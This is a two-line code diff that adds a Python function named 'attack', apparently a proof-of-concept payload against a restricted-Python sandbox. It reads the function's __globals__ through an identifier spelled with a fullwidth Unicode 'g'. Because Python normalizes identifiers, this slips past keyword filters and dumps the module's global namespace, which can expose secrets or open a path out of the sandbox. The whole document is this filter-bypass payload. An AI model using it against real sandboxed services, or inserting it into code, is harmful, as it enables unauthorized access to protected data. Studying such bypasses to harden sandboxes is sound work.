@@ -1,0 +1,2 @@
+def attack():
+    return {"proof": str(attack.__ｇlobals__)}
